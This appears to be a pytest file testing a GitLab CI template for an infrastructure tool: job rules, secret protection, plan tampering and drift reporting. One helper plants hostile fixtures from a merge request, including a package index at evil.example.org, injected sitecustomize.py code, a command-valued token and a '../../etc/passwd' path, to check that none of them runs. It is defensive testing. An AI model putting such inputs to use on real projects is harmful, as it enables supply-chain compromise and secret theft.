"""The GitLab template's jobs, run as they are written: on a merge request, on the default branch, in schedules."""

import json
from pathlib import Path
from typing import Any

import pytest

PROJECT = "/projects/eig%2Feig3%2Fadler%2Fapi"


def test_each_event_has_its_jobs(project: Any) -> None:
    assert project.request(1).jobs == {"review": "on_success"}
    assert project.pushed().jobs == {"plan": "on_success", "apply": "manual"}
    assert project.pushed("web").jobs == {"plan": "on_success", "apply": "manual"}
    assert project.pushed("schedule").jobs == {"drift": "on_success", "notes": "on_success"}
    assert project.pushed("schedule", EIGINFRA_SCHEDULE="drift").jobs == {"drift": "on_success"}
    assert project.pushed("schedule", EIGINFRA_SCHEDULE="notes").jobs == {"notes": "on_success"}


def test_attack_ci_secrets_are_for_the_protected_default_branch(project: Any) -> None:
    assert project.pushed(CI_COMMIT_BRANCH="another").jobs == {}
    for source in ("push", "web", "schedule", "api", "trigger"):
        assert project.pushed(source, CI_COMMIT_REF_PROTECTED="false").jobs == {}
    assert project.request(1).file["apply"]["resource_group"] == project.request(2).file["drift"]["resource_group"]
    assert project.request(3).file["apply"]["interruptible"] is False


def sprung(project: Any, tmp_path: Path) -> Path:
    """Change everything that could be run, fetched from or believed, and the data by a word."""
    trap = tmp_path / "run"
    code = f"open({str(trap)!r}, 'w')\n"
    origin = project.origin
    (origin / "playbooks" / "site.yml").write_text("- name: Mine\n  tasks: [{no.such: {}}]\n", encoding="utf-8")
    site = "gitlab: {url: https://evil.example.org, token: {command: [touch, run]}}\n"
    (origin / "infra" / "etalab.yml").write_text(site, encoding="utf-8")
    (origin / "infra" / "ci" / "gitlab-ci.yml").write_text("review: {script: [touch run]}\n", encoding="utf-8")
    (origin / "eiginfra.yml").write_text("playbook: ../../etc/passwd\n", encoding="utf-8")
    (origin / "sitecustomize.py").write_text(code, encoding="utf-8")
    (origin / "eiginfra" / "__init__.py").write_text(code, encoding="utf-8")
    (origin / "pyproject.toml").write_text("[project]\nname = 'evil'\nversion = '1'\n", encoding="utf-8")
    for name in ("run", "build"):
        (origin / "requirements" / f"{name}.txt").write_text("--index-url https://evil.example.org\nevil==1\n", encoding="utf-8")
    (origin / ".gitattributes").write_text("* filter=evil export-ignore\n", encoding="utf-8")
    return trap


@pytest.mark.parametrize("shell", ["bash", "sh"])
def test_attack_ci_nothing_is_installed_or_run_from_the_request(project: Any, tmp_path: Path, shell: str) -> None:
    project.shell = shell
    trap = sprung(project, tmp_path)
    project.edit("adler", "title: API ADLER", "title: API d’ADLER")
    pipeline = project.request(1)
    done = pipeline.run("review")
    assert done.code == 0, done.log
    assert not trap.exists()
    assert "evil.example.org" not in done.log
    review = json.loads((pipeline.kept / "review.json").read_text(encoding="utf-8"))
    [cohort] = review["cohorts"]
    assert [change["address"] for change in cohort["changes"]] == ["gitlab.project[eig/eig3/adler/api]"]
    assert (pipeline.kept / "review.md").read_text(encoding="utf-8").startswith("### Revue de ")


def test_attack_ci_the_requests_data_is_checked(project: Any) -> None:
    project.edit("adler", "name: api", "name: raw")
    pipeline = project.request(1)
    done = pipeline.run("review")
    assert done.code == 65, done.log
    place = "inventories/eig3/teams/adler.yml:24:11"
    assert f"{place}: error" in done.log
    [found] = json.loads((pipeline.kept / "codequality.json").read_text(encoding="utf-8"))
    assert (found["location"]["path"], found["location"]["lines"]["begin"]) == ("inventories/eig3/teams/adler.yml", 24)
    assert json.loads((pipeline.kept / "review.json").read_text(encoding="utf-8"))["ok"] is False


def test_what_others_merged_meanwhile_is_no_part_of_a_request(project: Any) -> None:
    project.edit("adler", "title: API ADLER", "title: API d’ADLER")
    pipeline = project.request(1)
    project.edit("karfur", "description: Serveur", "description: Un serveur")
    project.commit("merged meanwhile")
    done = pipeline.run("review")
    assert done.code == 0, done.log
    assert "karfur" not in done.log


def test_from_the_merge_to_the_plan_that_is_applied_and_the_drift_that_is_told(served: Any) -> None:
    merged = served.pushed()
    planned = merged.run("plan")
    assert planned.code == 0, planned.log
    saved = merged.kept / "eig3.plan.json"
    plan = saved.read_text(encoding="utf-8")
    assert len(json.loads(plan)["changes"]) > 20

    # With another file in its place nothing is done.
    saved.write_text(plan.replace("API ADLER", "API of somebody else"), encoding="utf-8")
    altered = merged.run("apply")
    assert altered.code == 65, altered.log
    assert served.gitlab("GET", "/groups/eig/subgroups") == []
    saved.write_text(plan, encoding="utf-8")
    applied = merged.run("apply")
    assert applied.code == 0, applied.log
    assert served.gitlab("GET", PROJECT)["name"] == "API ADLER"

    # The jobs share a journal: what is new is no adoption of unknown cause, and a change by hand is drift.
    calm = served.pushed("schedule").run("drift")
    assert calm.code == 0, calm.log
    served.gitlab("PUT", PROJECT, visibility="private")
    drift = served.pushed("schedule")
    told = drift.run("drift")
    assert told.code in drift.file["drift"]["allow_failure"]["exit_codes"], told.log
    [issue] = served.issues()
    assert "eig/eig3/adler/api" in issue["description"]

    # An old plan that is applied once more does nothing that the default branch does not ask for; a new one heals.
    healing = served.pushed()
    assert healing.run("plan").code == 0
    assert healing.run("apply").code == 0
    ended = served.pushed("schedule").run("drift")
    assert ended.code == 0, ended.log
    assert served.issues() == []
    for secret in served.secrets.values():
        assert all(secret not in done.log for done in (planned, altered, applied, calm, told, ended))


def test_a_plan_of_yesterday_does_nothing_that_the_default_branch_does_not_ask_for_today(served: Any) -> None:
    old = served.pushed()
    assert old.run("plan").code == 0
    served.edit("adler", "title: API ADLER", "title: API d’ADLER")
    served.commit("merged after the plan")
    late = old.run("apply")
    assert late.code == 1, late.log
    assert "refused: gitlab.project[eig/eig3/adler/api]" in late.log
    assert served.gitlab("GET", "/groups/eig%2Feig3%2Fadler")["path"] == "adler"


def test_where_no_request_is_open_the_notes_job_ends_well(served: Any) -> None:
    done = served.pushed("schedule", EIGINFRA_SCHEDULE="notes").run("notes")
    assert done.code == 0, done.log
    assert served.secrets["EIGINFRA_GITLAB_TOKEN"] not in done.log
